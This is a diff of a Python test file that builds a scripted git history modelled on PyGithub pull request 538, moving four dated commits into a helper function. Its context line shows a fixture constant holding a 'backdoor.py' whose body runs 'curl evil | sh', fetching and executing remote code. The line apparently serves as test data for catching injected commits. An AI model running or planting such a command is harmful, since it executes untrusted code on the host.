@@ -28,17 +28,22 @@ BACKDOOR = {"backdoor.py": "import os\nos.system('curl evil | sh')\n"}
 LEFT_OUT = "merge or squash commits left out of their change's commits"
 
 
+def pr538_steps(repo: ScriptedRepo) -> list[str]:
+    """PyGithub#538's four commits, at their dates, on the branch checked out."""
+    dates = ["2017-03-20T20:44:26Z", "2017-03-21T18:59:22Z", "2017-03-21T19:00:11Z",
+             "2017-03-24T20:45:04Z"]  # fmt: skip
+    return [
+        repo.commit(f"step {n}", {f"f{n}.py": f"{n}\n"}, author=f"Alex <{DEV}>", date=date)
+        for n, date in enumerate(dates)
+    ]
+
+
 def _branch(repo: ScriptedRepo) -> tuple[str, list[str]]:
     """PyGithub#538's shape: a base, its four commits on a branch, and a reviewed hotfix on
     main since, so that landing the branch makes a tree that neither side has."""
     base = repo.commit("base", {"README": "x\n"}, author=VINCENT, date="2017-03-01T00:00:00Z")
     repo.branch("reviews")
-    dates = ["2017-03-20T20:44:26Z", "2017-03-21T18:59:22Z", "2017-03-21T19:00:11Z",
-             "2017-03-24T20:45:04Z"]  # fmt: skip
-    steps = [
-        repo.commit(f"step {n}", {f"f{n}.py": f"{n}\n"}, author=f"Alex <{DEV}>", date=date)
-        for n, date in enumerate(dates)
-    ]
+    steps = pr538_steps(repo)
     repo.checkout("main")
     repo.commit("hotfix", {"hotfix.py": "1\n"}, author=VINCENT, date="2017-03-23T09:00:00Z",
                 trailers=("Reviewed-by: Jimmy <jimmy@coreos.example>",))  # fmt: skip
